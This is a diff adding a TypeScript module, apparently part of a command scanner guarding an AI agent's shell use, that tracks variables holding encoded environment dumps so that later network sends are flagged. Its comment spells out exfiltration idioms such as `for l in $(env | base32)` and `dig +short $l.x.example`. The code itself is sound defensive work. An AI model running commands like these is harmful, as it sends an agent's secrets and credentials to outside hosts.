@@ -1,0 +1,79 @@
+/**
+ * Variables that hold a dump of the environment: `for l in $(env | base32)`,
+ * `env | base64 | while read l`, `x=$(printenv | gzip | base64)`. Sending
+ * such a variable anywhere (`dig +short $l.x.example`, `curl …/?d=$x`) sends
+ * the agent's secrets with it, a line or a chunk at a time, so the senders
+ * judge a reference to one like the dump itself.
+ *
+ * @module
+ */
+
+import type { Script } from "../shell/ast.ts";
+import { commandsIn } from "./ast_scan.ts";
+import { isDumper } from "./creds.ts";
+import type { Arg, State, Unit } from "./unit.ts";
+
+/** The dumping program among the commands of some substitutions, if any. */
+export function dumperIn(scripts: readonly Script[]): string | null {
+  for (const s of scripts.slice(0, 16)) {
+    for (const c of commandsIn(s)) {
+      if (isDumper(c.name, c.args)) return c.name;
+    }
+  }
+  return null;
+}
+
+const VAR_REF = /\$\{?([A-Za-z_][A-Za-z0-9_]{0,63})/g;
+
+/** The dump-holding variable a text refers to (`$l`, `${x}`), with its dumper, or null. */
+export function dumpVarIn(
+  text: string,
+  st: State,
+): [string, string] | null {
+  if (st.out.dumpVars.size === 0 || !text.includes("$")) return null;
+  VAR_REF.lastIndex = 0;
+  let m: RegExpExecArray | null;
+  let n = 0;
+  while ((m = VAR_REF.exec(text)) && n++ < 256) {
+    const via = st.out.dumpVars.get(m[1]);
+    if (via) return [m[1], via];
+  }
+  return null;
+}
+
+/** Remembers (or forgets) `name` as holding an environment dump, from the value assigned to it. */
+export function trackDumpVar(name: string, value: Arg, st: State): void {
+  const via = value.subs.length ? dumperIn(value.subs) : null;
+  const copy = via ? null : dumpVarIn(value.text, st);
+  if (via ?? copy) st.out.dumpVars.set(name, (via ?? copy?.[1]) as string);
+  else st.out.dumpVars.delete(name);
+}
+
+/** `for l in $(env | base32)`: the loop variable holds the dump. */
+export function trackDumpLoop(
+  name: string,
+  values: readonly Arg[],
+  st: State,
+): void {
+  for (const v of values.slice(0, 64)) {
+    const via = v.subs.length ? dumperIn(v.subs) : dumpVarIn(v.text, st)?.[1];
+    if (via) {
+      st.out.dumpVars.set(name, via);
+      return;
+    }
+  }
+  st.out.dumpVars.delete(name);
+}
+
+/** `env | base64 | while read l`: the variables a read fills hold the dump when an earlier element printed the environment. */
+export function trackDumpRead(
+  names: readonly string[],
+  before: readonly Unit[],
+  st: State,
+): void {
+  const dumper = before.find((u) =>
+    isDumper(u.name, u.args.map((a) => a.text))
+  );
+  if (!dumper) return;
+  for (const n of names.slice(0, 16)) st.out.dumpVars.set(n, dumper.name);
+}
